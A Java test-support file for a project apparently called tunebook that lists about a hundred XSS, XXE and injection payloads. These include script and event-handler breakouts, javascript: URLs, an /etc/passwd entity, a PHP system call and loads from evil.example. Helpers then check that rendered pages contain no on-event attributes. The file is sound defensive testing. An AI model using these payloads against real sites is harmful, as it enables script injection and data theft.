package tunebook.support;

import static org.junit.jupiter.api.Assertions.assertFalse;

import java.io.StringReader;
import java.util.ArrayList;
import java.util.List;
import javax.xml.parsers.DocumentBuilder;
import javax.xml.parsers.DocumentBuilderFactory;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.NodeList;
import org.xml.sax.InputSource;

/** Names and texts that try to become markup, and what a page is really made of. */
public final class Hostile {
    /** What changes no page. */
    public static final String HARMLESS = "harmless";

    /** Tags, breakouts from attributes, entities, SVG, CSS, addresses, Markdown, odd Unicode. */
    public static final List<String> TEXTS =
            List.of(
                    "<script>alert(1)</script>",
                    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                    "<img src=x onerror=alert(1)>",
                    "<svg onload=alert(1)>",
                    "<svg><script>alert(1)</script></svg>",
                    "\"><script>alert(1)</script>",
                    "'><img src=x onerror=alert(1)>",
                    "\" onmouseover=\"alert(1)",
                    "' onfocus='alert(1)' autofocus='",
                    "` onmouseover=`alert(1)",
                    "</td></tr></table><iframe src=javascript:alert(1)>",
                    "</caption><a href=\"javascript:alert(1)\">x</a>",
                    "</title><script>alert(1)</script>",
                    "</desc></svg><script>alert(1)</script>",
                    "</style><script>alert(1)</script>",
                    "]]><script>alert(1)</script>",
                    "<![CDATA[<script>alert(1)</script>]]>",
                    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
                    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
                    "&lt;script&gt;alert(1)&lt;/script&gt;",
                    "&#60;script&#62;alert(1)",
                    "\\u003cscript\\u003ealert(1)",
                    "<scr\0ipt>alert(1)</scr\0ipt>",
                    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
                    "[x](javascript:alert(1))",
                    "![x](x\"onerror=\"alert(1))",
                    "| a | <details open ontoggle=alert(1)>",
                    "$<img src=x onerror=alert(1)>$",
                    "\ud800<script>alert(1)</script>\udfff",
                    "\uff1cscript\uff1ealert(1)",
                    "%3Cscript%3Ealert(1)%3C/script%3E",
                    "</textarea><script>alert(1)</script>",
                    "</script><script>alert(1)</script>",
                    "</SCRIPT >",
                    "</svg>",
                    "</table>",
                    "</div></div></div><b>out</b>",
                    "</mark></small>",
                    "<body onload=alert(1)>",
                    "<input autofocus onfocus=alert(1)>",
                    "<select autofocus onfocus=alert(1)>",
                    "<video><source onerror=alert(1)></video>",
                    "<audio src=x onerror=alert(1)>",
                    "<marquee onstart=alert(1)>",
                    "<object data=\"javascript:alert(1)\"></object>",
                    "<embed src=\"data:text/html;base64,PHNjcmlwdD4=\">",
                    "<link rel=stylesheet href=//evil.example/x.css>",
                    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
                    "<base href=\"javascript:alert(1)//\">",
                    "<form action=javascript:alert(1)><button>go</button></form>",
                    "<button formaction=javascript:alert(1)>go</button>",
                    "<isindex type=image src=1 onerror=alert(1)>",
                    "<template><script>alert(1)</script></template>",
                    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                    "<xmp><img src=x onerror=alert(1)></xmp>",
                    "<plaintext>",
                    "<style>*{background:url(//evil.example)}</style>",
                    "<style>@import '//evil.example/x.css';</style>",
                    ";background:url(javascript:alert(1))",
                    "red;}</style><script>alert(1)</script>",
                    "expression(alert(1))",
                    "\" style=\"position:fixed;inset:0",
                    "\" style=\"background:url(//evil.example)\" x=\"",
                    "' style='animation-name:x' onanimationstart='alert(1)",
                    "\" accesskey=\"x\" onclick=\"alert(1)\" x=\"",
                    "\"/><image href=x onerror=alert(1)/>",
                    "x\" /><script>alert(1)</script><y z=\"",
                    "\" dir=\"rtl\" lang=\"x",
                    "=\"\"'' onclick=alert(1)",
                    "\t\"\n onclick\n=\nalert(1)\n",
                    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
                    "<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\"/></svg>",
                    "<svg><foreignObject><body onload=alert(1)/></foreignObject></svg>",
                    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
                    "</text></g></svg><script>alert(1)</script>",
                    "<svg><style><img src=\"</style><img src=x onerror=alert(1)>\"></svg>",
                    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
                    "&x;",
                    "&",
                    "&#x3c;img src=x onerror=alert(1)&#x3e;",
                    "&lt",
                    "&amp;lt;script&amp;gt;",
                    "&NewLine;&colon;&lpar;",
                    "<!-- --!><script>alert(1)</script>",
                    "--><script>alert(1)</script><!--",
                    "<![endif]--><script>alert(1)</script>",
                    "<?php system('id') ?>",
                    "<%= 7*7 %>{{7*7}}${7*7}#{7*7}",
                    "javascript:alert(1)",
                    "JaVaScRiPt&colon;alert(1)",
                    "data:text/html,<script>alert(1)</script>",
                    "vbscript:msgbox(1)",
                    "//evil.example/%2e%2e",
                    "[a]: javascript:alert(1)",
                    "<javascript:alert(1)>",
                    "[a](<javascript:alert(1)> \"<b>\")",
                    "*a* _b_ ~~c~~ `<d>` # e",
                    "a\n\n<script>alert(1)</script>\n\n- b",
                    "\u2028<script>alert(1)</script>\u2029",
                    "\u202e<tpircs>\u202c",
                    "\ufeff<\u200bscript>alert(1)</\u200bscript>",
                    "\u00ab\u2039script\u203a\u00bb \uff02 onclick=alert(1) \uff02",
                    "<\u017fcript>alert(1)</\u017fcript>",
                    "\u0001\u0008\u001b[31m<script>alert(1)</script>\u007f\u0085",
                    "\ufffe\uffff\ud83d<b>\ude00",
                    "<div>".repeat(40));

    private Hostile() {}

    /** Each element with its attributes' names, in the order of the document. */
    public static List<String> elements(String html) throws Exception {
        List<String> elements = new ArrayList<>();
        for (Element element : all(html)) {
            StringBuilder text = new StringBuilder(element.getTagName());
            for (int a = 0; a < element.getAttributes().getLength(); a++) {
                String name = element.getAttributes().item(a).getNodeName();
                assertFalse(name.startsWith("on"), name);
                text.append(' ').append(name);
            }
            elements.add(text.toString());
        }
        return elements;
    }

    /** Every element below the page. */
    public static List<Element> all(String html) throws Exception {
        NodeList nodes = parse(html).getDocumentElement().getElementsByTagName("*");
        List<Element> elements = new ArrayList<>();
        for (int i = 0; i < nodes.getLength(); i++) elements.add((Element) nodes.item(i));
        return elements;
    }

    /** What the renderers write is well-formed XML too, so the strictest parser can judge it. */
    public static Document parse(String html) throws Exception {
        String page = "<page>" + html.replaceFirst("^<\\?xml[^>]*\\?>", "") + "</page>";
        DocumentBuilder builder = DocumentBuilderFactory.newInstance().newDocumentBuilder();
        builder.setErrorHandler(null);
        return builder.parse(new InputSource(new StringReader(page)));
    }
}
